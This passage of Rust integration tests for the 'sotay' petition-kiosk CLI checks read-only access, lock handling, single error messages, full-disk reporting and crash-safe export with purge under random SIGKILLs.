        std::fs::set_permissions(p, std::fs::Permissions::from_mode(m)).expect("chmod")
    };
    // Readable by anyone, writable by no one but root (who runs the command as `nobody`).
    mode(&db, 0o644);
    mode(d, 0o555);
    let before: Vec<String> = crate::common::files_under(d);
    let outdir = tempfile::tempdir().expect("tmp");
    mode(outdir.path(), 0o777);
    let out = outdir.path().join("gop-y.csv");

    let o = sotay_without_write_access(&[
        "stats".as_ref(),
        "--json".as_ref(),
        "--data".as_ref(),
        d.as_os_str(),
    ]);
    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
    let counts: serde_json::Value = serde_json::from_slice(&o.stdout).expect("JSON");
    assert_eq!(
        (counts["petitions"].as_u64(), counts["ratings"].as_u64()),
        (Some(3), Some(1))
    );
    let o = sotay_without_write_access(&[
        "export".as_ref(),
        "--data".as_ref(),
        d.as_os_str(),
        "--out".as_ref(),
        out.as_os_str(),
    ]);
    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
    assert_eq!(read_csv(&out).1.len(), 4);
    // Purging needs to write: refused, with the file not written.
    let out2 = outdir.path().join("purge.csv");
    let o = sotay_without_write_access(&[
        "export".as_ref(),
        "--purge".as_ref(),
        "--data".as_ref(),
        d.as_os_str(),
        "--out".as_ref(),
        out2.as_os_str(),
    ]);
    assert!(!o.status.success());
    assert!(!out2.exists());
    mode(d, 0o755);
    assert_eq!(
        crate::common::files_under(d),
        before,
        "nothing created in the data folder"
    );
    assert_eq!(
        FeedbackStore::open(&db)
            .expect("open")
            .counts()
            .expect("counts")
            .petitions,
        3
    );
}

/// Defect: `stats` opened a write transaction and so waited 10 s for another writer's lock, then
/// failed with a doubled "database is locked: database is locked: …". It only reads: it answers at
/// once with what is committed, and so does an export without purge.
#[test]
fn reading_never_waits_for_a_writer() {
    let (dir, db) = data_with(2);
    let writer = rusqlite::Connection::open(&db).expect("open");
    writer.execute_batch("BEGIN IMMEDIATE").expect("write lock");
    writer
        .execute(
            "INSERT INTO petitions (created_at, kind, name, address, phone, summary)
             VALUES ('2026-01-01T00:00:00.000Z', 'kien-nghi', 'Chưa lưu', 'Huế', '0905123456',
                     'Chưa được ghi hẳn')",
            [],
        )
        .expect("uncommitted insert");
    let started = Instant::now();
    let o = feedback_cli(&[
        "stats".as_ref(),
        "--json".as_ref(),
        "--db".as_ref(),
        db.as_os_str(),
    ]);
    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
    let counts: serde_json::Value = serde_json::from_slice(&o.stdout).expect("JSON");
    assert_eq!(
        counts["petitions"].as_u64(),
        Some(2),
        "only what is committed"
    );
    let out = dir.path().join("x.csv");
    let o = feedback_cli(&[
        "export".as_ref(),
        "--db".as_ref(),
        db.as_os_str(),
        "--out".as_ref(),
        out.as_os_str(),
    ]);
    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
    let took = started.elapsed();
    eprintln!("stats and export beside a writer's lock: {took:?}");
    assert!(
        took < Duration::from_secs(5),
        "waited for the writer: {took:?}"
    );
    writer.execute_batch("COMMIT").expect("commit");
}

/// Defect: errors were printed twice over ("database is locked: database is locked: Error code 5",
/// "not a content folder: not a content folder"). One message, naming the file.
#[test]
fn errors_are_said_once() {
    let tmp = tempfile::tempdir().expect("tmp");
    let bad = tmp.path().join("feedback.sqlite3");
    std::fs::write(&bad, "petitions,ratings\n".repeat(100)).expect("write");
    let o = feedback_cli(&["stats".as_ref(), "--db".as_ref(), bad.as_os_str()]);
    let err = String::from_utf8_lossy(&o.stderr);
    assert!(!o.status.success());
    assert_eq!(err.matches("file is not a database").count(), 1, "{err}");
    assert!(err.contains(&bad.display().to_string()), "{err}");
    let o = Command::new(env!("CARGO_BIN_EXE_sotay"))
        .arg("check")
        .arg(&bad)
        .output()
        .expect("run");
    let err = String::from_utf8_lossy(&o.stderr);
    assert!(!o.status.success());
    assert_eq!(err.matches("not a content folder").count(), 1, "{err}");
    assert_eq!(err.lines().count(), 1, "{err}");
}

/// Runs `sotay feedback export` unable to make any file larger than `bytes` (as on a full disk:
/// writes past it fail).
fn export_on_a_full_disk(args: &[&std::ffi::OsStr], bytes: u64) -> std::process::Output {
    use std::os::unix::process::CommandExt;
    let mut cmd = Command::new(env!("CARGO_BIN_EXE_sotay"));
    cmd.arg("feedback")
        .args(args)
        .env_remove(sotay::config::DATA_DIR_VAR);
    // SAFETY: between fork and exec only async-signal-safe calls: setrlimit and signal.
    unsafe {
        cmd.pre_exec(move || {
            let limit = libc::rlimit {
                rlim_cur: bytes,
                rlim_max: bytes,
            };
            if libc::setrlimit(libc::RLIMIT_FSIZE, &limit) != 0 {
                return Err(std::io::Error::last_os_error());
            }
            // Writes past the limit fail with EFBIG instead of killing the process.
            libc::signal(libc::SIGXFSZ, libc::SIG_IGN);
            Ok(())
        });
    }
    cmd.output().expect("run sotay")
}

/// Defect: on a full disk the export wrote the CSV and exited 1 without saying the file exists. The
/// message now says whether it was written, and nothing is marked or purged unless all went through.
#[test]
fn a_full_disk_says_whether_the_export_exists() {
    // The CSV itself cannot be written: 10,000 characters of summary do not fit in 4 KiB.
    let (dir, db) = data_with(0);
    let store = FeedbackStore::open(&db).expect("open");
    let long: String = "Thủ tục rườm rà ".chars().cycle().take(10_000).collect();
    store.add_petition(&petition(&long)).expect("add");
    let out = dir.path().join("big.csv");
    let o = export_on_a_full_disk(
        &[
            "export".as_ref(),
            "--purge".as_ref(),
            "--db".as_ref(),
            db.as_os_str(),
            "--out".as_ref(),
            out.as_os_str(),
        ],
        4096,
    );
    let err = String::from_utf8_lossy(&o.stderr);
    assert!(!o.status.success(), "{err}");
    assert!(!out.exists());
    assert!(err.contains("the export was not written"), "{err}");
    assert!(err.contains("the database was not changed"), "{err}");
    assert_eq!(store.counts().expect("counts").petitions, 1);
    drop(store);

    // The CSV fits, the database's journal does not: the file exists, nothing is purged.
    let (dir, db) = data_with(1);
    // This connection keeps the -shm file at its full size, and empties the WAL, so the export's first
    // write to the database is the one past the limit.
    let keep = rusqlite::Connection::open(&db).expect("open");
    keep.query_row("PRAGMA wal_checkpoint(TRUNCATE)", [], |_| Ok(()))
        .expect("checkpoint");
    let out = dir.path().join("small.csv");
    let o = export_on_a_full_disk(
        &[
            "export".as_ref(),
            "--purge".as_ref(),
            "--db".as_ref(),
            db.as_os_str(),
            "--out".as_ref(),
            out.as_os_str(),
        ],
        1024,
    );
    let err = String::from_utf8_lossy(&o.stderr);
    assert!(!o.status.success(), "{err}");
    assert!(out.exists(), "the CSV was written");
    assert_eq!(read_csv(&out).1.len(), 2);
    assert!(
        err.contains(&format!("{} was written", out.display())),
        "{err}"
    );
    assert!(
        err.contains("Nothing was marked as exported or purged"),
        "{err}"
    );
    drop(keep);
    let store = FeedbackStore::open(&db).expect("open");
    let c = store.counts().expect("counts");
    assert_eq!((c.petitions, c.petitions_not_exported), (1, 1));
    assert_eq!(integrity(&db), "ok");
}

/// Kills `sotay feedback export --purge` with SIGKILL at random moments while petitions keep coming,
/// over one database and one output folder: after each kill every acknowledged petition is in the
/// database or, intact, in a finished export, and `PRAGMA integrity_check` is `ok`. The seed is
/// printed; `SOTAY_DURABILITY_SEED` replays a run, `SOTAY_DURABILITY_ROUNDS` changes the count (50).
#[test]
fn export_with_purge_loses_no_petition_under_sigkill() {
    let seed = std::env::var("SOTAY_DURABILITY_SEED")
        .ok()
        .and_then(|s| s.parse().ok())
        .unwrap_or_else(|| {
            std::time::SystemTime::now()
                .duration_since(std::time::UNIX_EPOCH)
                .map_or(1, |d| d.as_nanos() as u64)
        });
    let rounds: usize = std::env::var("SOTAY_DURABILITY_ROUNDS")
        .ok()
        .and_then(|s| s.parse().ok())
        .unwrap_or(50);
    let mut rng = SplitMix(seed);
    let tmp = tempfile::tempdir().expect("tmp");
    let db = FeedbackStore::default_path(tmp.path());
    let exports = tmp.path().join("exports");
    std::fs::create_dir(&exports).expect("mkdir");
    let store = FeedbackStore::open(&db).expect("open");
    let mut acked: HashMap<i64, PetitionInput> = HashMap::new();
    let add = |acked: &mut HashMap<i64, PetitionInput>, round: usize, n: usize| {
        for k in 0..n {
            let p = petition(&format!(
                "Vòng {round}, kiến nghị {k}: \"trích\" =1+1 ; -- 😀 {}",
                "nội dung dài ".repeat(k % 40)
            ));
            let id = store.add_petition(&p).expect("add");
            acked.insert(id, stored_form(&p));
        }
    };
    let spawn = |out: &Path| {
        Command::new(env!("CARGO_BIN_EXE_sotay"))
            .args(["feedback", "export", "--purge", "--db"])
            .arg(&db)
            .arg("--out")
            .arg(out)
            .env_remove(sotay::config::DATA_DIR_VAR)
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .spawn()
            .expect("spawn sotay feedback export")
    };
    eprintln!(
        "export kill test: seed {seed} (SOTAY_DURABILITY_SEED={seed} replays it), {rounds} rounds"
    );
    // What each kill left: no file yet, a file with its petitions still in the database (killed
    // between the rename and the purge's commit), or a finished export.
    let (mut no_file, mut not_purged, mut finished) = (0, 0, 0);
    let mut spent = Duration::ZERO;
    for round in 0..rounds {
        // A full export of about the size of this round's, timed, to spread the kill over its duration
        // (it also empties the database, so every round exports a similar number).
        let n = 50 + usize::try_from(rng.below(250)).unwrap_or(0);
        add(&mut acked, 2 * round, n);
        let started = Instant::now();
        let status = spawn(&exports.join(format!("full-{round:02}.csv")))
            .wait()
            .expect("wait");
        let duration = started.elapsed();
        assert!(
            status.success(),
            "round {round}: an export that is not killed succeeds"
        );
        add(&mut acked, 2 * round + 1, n);
        let out = exports.join(format!("killed-{round:02}.csv"));
        let delay = duration.mul_f64(1.2 * rng.below(1000) as f64 / 1000.0);
        spent += delay;
        let mut child = spawn(&out);
        let spawned = Instant::now();
        // While it runs, the kiosk keeps taking petitions.
        add(&mut acked, 2 * round + 1, 3);
        std::thread::sleep(delay.saturating_sub(spawned.elapsed()));
        child.kill().expect("SIGKILL");
        let status = child.wait().expect("reap");
        let left = store.counts().expect("counts").petitions;
        match (out.exists(), status.success()) {
            (false, _) => no_file += 1,
            (true, true) => finished += 1,
            (true, false) if left > 3 => not_purged += 1,
            (true, false) => finished += 1, // killed after its commit, while exiting
        }
        // Every acknowledged petition: in the database, or intact in a finished export (a killed one
        // leaves none: the file appears by an atomic rename, or not at all).
        let present: HashMap<i64, PetitionInput> = store
            .petitions()
            .expect("petitions")
            .iter()
            .map(|p| (p.id, as_input(p)))
            .collect();
        let mut exported: HashMap<i64, Vec<String>> = HashMap::new();
        let mut csvs = 0;
        for entry in std::fs::read_dir(&exports).expect("exports") {
            let path = entry.expect("entry").path();
            if path.extension().is_some_and(|e| e == "csv") {
                csvs += 1;
                for row in read_csv(&path).1 {
                    if row[0] != "danh-gia" {
                        exported.insert(row[1].parse().expect("id"), row);
                    }
                }
            }
        }
        assert!(csvs > round, "every full export left its file");
        for (id, p) in &acked {
            if let Some(stored) = present.get(id) {
                assert_eq!(
                    stored, p,
                    "round {round}: petition {id} changed (seed {seed})"
                );
                continue;
            }
            let row = exported.get(id).unwrap_or_else(|| {
                panic!("round {round}: petition {id} is neither in the database nor exported (seed {seed})")
            });
            let cell = |i: usize| unneutralize(&row[i]).to_string();
            assert_eq!(
                (cell(5), cell(6), cell(7), cell(9)),
                (
                    p.name.clone(),
                    p.address.clone(),
                    p.phone.clone(),
                    p.summary.clone()
                ),
                "round {round}: petition {id} exported damaged (seed {seed})"
            );
        }
        assert_eq!(integrity(&db), "ok", "round {round} (seed {seed})");
    }
    eprintln!(
        "export kill test: {rounds} kills: {no_file} before the file existed, {not_purged} between the \
         file and the purge, {finished} after the purge; {} petitions acknowledged, 0 lost, integrity \
         ok after every kill (mean kill delay {:?})",
        acked.len(),
        spent / u32::try_from(rounds.max(1)).unwrap_or(1)
    );
}
